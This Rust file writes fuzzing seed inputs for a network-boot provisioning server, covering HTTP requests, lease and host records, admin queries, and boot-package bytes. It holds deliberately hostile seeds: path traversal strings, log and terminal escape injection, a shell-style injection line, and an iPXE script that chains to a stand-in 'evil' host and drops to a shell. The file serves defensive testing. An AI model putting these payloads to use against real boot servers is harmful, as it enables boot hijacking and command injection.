//! Texts and records, by target; the first byte of most chooses a reader.

use super::put;
use std::io;
use std::path::Path;

const MAC: &str = "52:54:00:12:34:56";

pub(super) fn write(home: &Path) -> io::Result<()> {
    let each = |target: &str, choice: Option<u8>, texts: &[&str]| -> io::Result<()> {
        for (number, text) in texts.iter().enumerate() {
            let head = choice.map_or_else(Vec::new, |choice| vec![choice]);
            let kind = choice.map_or_else(|| "text".to_owned(), |choice| format!("kind{choice}"));
            put(home, target, &format!("{kind}-{number}"), &[head, text.as_bytes().to_vec()].concat())?;
        }
        Ok(())
    };
    each(
        "http_request",
        Some(0),
        &[
            "mac=52:54:00:12:34:56&uuid=4c4c4544-0042-4410-8051-b4c04f564e31&arch=x86_64&platform=efi&serial=A%20B",
            "mac=&uuid=&serial=&vendor=Dell+Inc.&model=%e2%98%83&asset=%00",
            "mac=zz",
            "platform=pcbios&arch=i386",
            "a=b&c",
            "",
        ],
    )?;
    each(
        "http_request",
        Some(1),
        &["/boot.ipxe", "//debian//linux", "/a%2f..%2fb", "/%5cBoot%5cBCD", "/..", "/%ff"],
    )?;
    each(
        "http_request",
        Some(2),
        &["bytes=0-499", "bytes=-1", "bytes=5-", "bytes=0-0,2-3,9-", "bytes=18446744073709551616-"],
    )?;
    each(
        "http_request",
        Some(3),
        &["\"abc\"", "*\nW/\"abc\", \"x,y\"\n\"abc\"", "\n\"abc\"", "\n\nThu, 01 Jan 1970 00:00:00 GMT"],
    )?;

    each(
        "types_text",
        None,
        &[
            MAC,
            "52-54-00-12-34-56",
            "5254.0012.3456",
            "525400123456",
            "4c4c4544-0042-4410-8051-b4c04f564e31",
            "{4C4C4544-0042-4410-8051-B4C04F564E31}",
            "web01",
            "10.77.0.100-10.77.0.199",
            "10.77.0.1",
            "uefi-x64",
            "bios",
        ],
    )?;

    each(
        "store_record",
        Some(0),
        &[
            r#"{"v":1,"record":{"address":"10.77.0.100","subnet":"lab","key":{"client_id":"00ff"},"mac":"52:54:00:12:34:56","guid":"00112233445566778899aabbccddeeff","hostname":"web01","state":"bound","granted":1,"expires":2,"relay_info":"0102"}}"#,
            r#"{"v":1,"record":{"address":"10.77.0.101","subnet":"lab","key":{"hardware":{"htype":1,"address":"525400123456"}},"state":"quarantined","granted":1}}"#,
        ],
    )?;
    let host = r#"{"name":"web01","match":{"mac":["52:54:00:12:34:56"],"uuid":"4c4c4544-0042-4410-8051-b4c04f564e31","serial":"A1"},"image":"debian","params":{"role":"web"},"kernel_args_append":["quiet"]}"#;
    let image = r#"{"name":"debian","kind":"linux","source":"dir:/srv","kernel":"linux","initrd":["initrd.gz"],"cmdline":"quiet ---","description":"d"}"#;
    each("store_record", Some(1), &[&format!(r#"{{"v":1,"record":{host}}}"#)])?;
    each("store_record", Some(2), &[&format!(r#"{{"v":1,"record":{image}}}"#)])?;
    each("store_record", Some(3), &["\u{4}\n\u{4d}\0\u{1}"])?;
    each(
        "store_record",
        Some(4),
        &[
            r#"{"table":"leases","key":"040a4d0064","value":{"v":1}}"#,
            r#"{"table":"meta","key":"","hex":"00ff"}"#,
            r#"{"store":1,"revision":3}"#,
        ],
    )?;
    each(
        "store_record",
        Some(5),
        &[
            r#"{"v":1,"record":{"phase":"adopted","since":1,"heard":1,"arming":{"by":"alice","at":1,"image":"esxi","expires":9,"retries":1},"one_shot":{"armed":false,"by":"bob","at":1,"retries":0},"disk_until":3}}"#,
            r#"{"v":1,"record":{"phase":"installing","since":1,"heard":1,"detail":"d","grant":{"boot":"B1","image":{"name":"esxi","version":"9f2c"},"at":1,"used":{"arming":{"by":"alice","at":1,"retries":0}},"open":true},"lock":{"by":"c","at":1,"reason":"r"},"installed":{"image":{"name":"esxi"},"destructive":true,"boot":"B0","at":1,"told":"up"},"last_boot":{"boot":"B1","image":{"name":"esxi"},"destructive":true,"at":1,"opened":true},"from_cache":{"reported":"B0","since":1}}}"#,
        ],
    )?;
    each(
        "store_record",
        Some(6),
        &[
            r#"{"v":1,"record":{"name":"rack12","by":"alice","at":1,"image":{"name":"esxi"},"at_once":5,"failures_max":2,"retries":0,"trusts_silence":false,"forgiven":0,"state":{"paused":{"by":"bob","at":2}},"hosts":[{"host":"a","state":"armed"},{"host":"b","state":"failed","why":"w"}]}}"#,
        ],
    )?;
    for (name, bytes) in store::fuzzing::seeds() {
        put(home, "store_frame", name, &bytes)?;
    }
    put(home, "store_checkpoint", "short", b"RVCKPT")?;

    each(
        "admin_request",
        Some(0),
        &[
            "limit=10&after=web01&dry_run=true",
            "mac=52:54:00:12:34:56&arch=uefi-x64&stage=ipxe&vendor=A+B",
            "arch=7",
            "mac:52:54:00:12:34:56",
            "serial:A1",
            "17-5",
            "limt=3",
            "a=%ff",
        ],
    )?;
    each(
        "admin_request",
        Some(1),
        &[
            host,
            image,
            r#"{"source":"/srv/debian","name":"debian","kind":"linux","kernel":"linux","initrd":["a"]}"#,
            "[[[[",
        ],
    )?;

    let mut pe = vec![0u8; 0x47];
    pe[1..3].copy_from_slice(b"MZ");
    pe[0x3d] = 0x40;
    pe[0x41..0x47].copy_from_slice(b"PE\0\0\x64\x86");
    put(home, "library_bytes", "pe", &pe)?;
    let digest = "00".repeat(32);
    each(
        "library_bytes",
        Some(1),
        &[&format!(
            r#"{{"image":"a","source":"dir:/x","imported":1,"files":{{"EFI/BOOT":{{"sha256":"{digest}","size":7}}}}}}{}"#,
            "\nefi\\boot"
        )],
    )?;
    let descriptor = r#"<vib version="5.0"><type>bootbank</type><name>n</name><version>1</version><vendor>v</vendor><file-list><file>x/mboot.c32</file></file-list><payloads><payload name="p" type="tgz" size="3"><checksum checksum-type="sha-256">00</checksum></payload></payloads></vib>"#;
    let member = |name: &str, content: &str| {
        let padding = if content.len() % 2 == 1 { "\n" } else { "" };
        format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n{content}{padding}", 0, 0, 0, 100_644, content.len())
    };
    let package = format!(
        "!<arch>\n{}{}{}",
        member("descriptor.xml", descriptor),
        member("sig.pkcs7", ""),
        member("p", "abc")
    );
    let long = format!("!<arch>\n{}{}", member("//", "a-name-longer-than-15/\n"), member("/0", "x"));
    let profile = r#"<p:imageprofile><name>a-standard</name><viblist><vib><vib-id>v_bootbank_n_1</vib-id><payloads><payload payload-name="boot">b.b00</payload><payload payload-name="p1234" vfat-name="p.v00"/></payloads></vib><vib>id</vib></viblist></p:imageprofile>"#;
    each("depot_bytes", Some(0), &[&package, &long])?;
    each(
        "depot_bytes",
        Some(1),
        &[descriptor, profile, "<a>&#65;&amp;<![CDATA[<]]></a>", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"],
    )?;
    each("depot_bytes", Some(2), &[profile])?;
    each("depot_bytes", Some(3), &[&package])?;
    each("library_bytes", Some(2), &["a/b c", "../a", "a//b", "a\\b"])?;

    each(
        "text_sinks",
        None,
        &[
            "a\n2026-01-01 ERROR forged\r\n\0web01",
            "\u{1b}[2J\u{1b}]0;owned\u{7}\0\" mac=00:00:00:00:00:00 \"",
            "#!ipxe\nchain http://evil/\n\0${net0/mac} || shell",
            "linux ; exit\0initrd && reboot",
            "\u{202e}gpj\u{2028}\u{85}\0\u{feff}\u{9b}2J",
            "x quiet --- console=ttyS0\0a description of the image",
        ],
    )
}
